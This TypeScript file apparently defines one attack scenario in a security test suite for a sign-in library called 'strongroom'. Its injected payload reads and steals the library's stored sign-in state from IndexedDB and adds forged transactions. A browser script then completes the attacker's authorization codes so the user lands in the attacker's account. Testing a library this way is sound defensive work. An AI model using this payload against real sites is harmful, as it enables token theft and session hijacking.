import { attack } from "../attack.js";

export default attack({
  name: "signs the user in to its own account with stored and forged transactions",
  threat: "manipulating the sign-in",
  target: "strongroom",
  // Tries every stored value that may be a `state`, and adds forged stored transactions for its own states.
  async payload(it) {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const database = await done(indexedDB.open("strongroom"));
    const values = () => database.transaction("values", "readwrite").objectStore("values");
    const text: string = await done(values().get("state"));
    const row = JSON.parse(text);
    it.steal(text);
    (window as { found?: string[] }).found = text.match(/[\w-]{22,}/g) ?? [];
    for (const [state, kind] of Object.entries({
      "forged-1": "user",
      "forged-2": "again",
      "forged-3": "silent",
    })) {
      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(state));
      const name = btoa(String.fromCharCode(...new Uint8Array(digest)))
        .replace(/\+/g, "-")
        .replace(/\//g, "_")
        .replace(/=+$/, "");
      row.transactions.push([name, `${kind} ${Date.now()} /`, Date.now() + 600_000]);
    }
    await done(values().put(JSON.stringify(row), "state"));
    database.close();
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    const tab = await stage.browser.currentTab();
    await stage.beginSignIn();
    await stage.browser.newTab(`${stage.site.origin}/`);
    await stage.waitForState("signed-out");
    await stage.inject();
    const found = await stage.browser.evaluate(() => (window as { found?: string[] }).found);
    if (!found?.length) throw new Error("IndexedDB has nothing of the sign-in: there was nothing to try");
    await stage.closeThisTab(tab);
    for (const state of [...found, "forged-1", "forged-2", "forged-3"]) {
      await stage.browser.goto(await stage.codeOfTheAttacker({ state }));
    }
  },
  gain: (stage) => stage.isTheAttackersSession(),
});
